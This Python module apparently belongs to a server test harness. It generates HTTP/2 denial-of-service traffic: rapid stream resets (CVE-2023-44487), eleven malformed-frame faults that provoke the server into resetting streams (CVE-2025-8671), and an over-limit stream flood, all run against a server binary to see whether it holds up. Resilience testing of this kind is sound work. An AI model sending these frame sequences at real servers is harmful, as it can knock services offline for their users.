"""Streams that are opened to be reset, by the client (CVE-2023-44487) or, because the client breaks
a rule on each, by the server (CVE-2025-8671): 200 in ten seconds are enough."""

import h2
from attack import Attack, table

SECONDS = 120
ALLOWED = 200
# An answer that takes its time: what is answered at once cannot be reset before.
SLOW = "/delay?ms=10000"
PATTERN = h2.request("GET", SLOW)


def cancelled(n):
    stream = h2.odd(n)
    return h2.get(stream, SLOW) + h2.frame(h2.RST_STREAM, 0, stream, h2.number(8))


def provoked(fault, ended=False, fields=()):
    """A request, and behind it what makes the server reset it."""
    def each(n):
        stream = h2.odd(n)
        flags = h2.WHOLE if ended else h2.END_HEADERS
        return h2.headers(stream, h2.request("GET", SLOW, "test", *fields), flags) + fault(stream)
    return each


FAULTS = {
    "WINDOW_UPDATE of 0": provoked(
        lambda stream: h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4))),
    "a window beyond 31 bits": provoked(
        lambda stream: h2.frame(h2.WINDOW_UPDATE, 0, stream, h2.number(h2.WINDOW_MAX))),
    "DATA after the end": provoked(lambda stream: h2.data(stream, b"late"), ended=True),
    "HEADERS after the end": provoked(lambda stream: h2.headers(stream, [("x", "y")]), ended=True),
    "more than content-length": provoked(
        lambda stream: h2.data(stream, b"xx"), fields=[("content-length", "1")]),
    "less than content-length": provoked(
        lambda stream: h2.data(stream, b"", h2.END_STREAM), fields=[("content-length", "1")]),
    "trailers that do not end": provoked(
        lambda stream: h2.headers(stream, [("x", "y")], h2.END_HEADERS)),
    "trailers with :path": provoked(lambda stream: h2.headers(stream, [(":path", "/")])),
    "no :method": lambda n: h2.headers(h2.odd(n), PATTERN[1:]),
    "an upper-case name": lambda n: h2.headers(h2.odd(n), [*PATTERN, ("X", "y")]),
    "empty HEADERS": lambda n: h2.headers(h2.odd(n), b""),
}


def all_faults(n):
    faults = list(FAULTS.values())
    return faults[n % len(faults)](n)


ATTACKS = [
    Attack("rapid reset", cancelled, ALLOWED),
    *(Attack(f"reset by us: {name}", each, ALLOWED, flood=False)
      for name, each in FAULTS.items()),
    Attack("reset by us: all of these", all_faults, ALLOWED),
    # A hundred are open, and those beyond are refused, which the server pays for like resets.
    Attack("more streams than allowed", lambda n: h2.get(h2.odd(n), SLOW), 100 + ALLOWED),
]


async def run(binary):
    return await table(binary, ATTACKS)
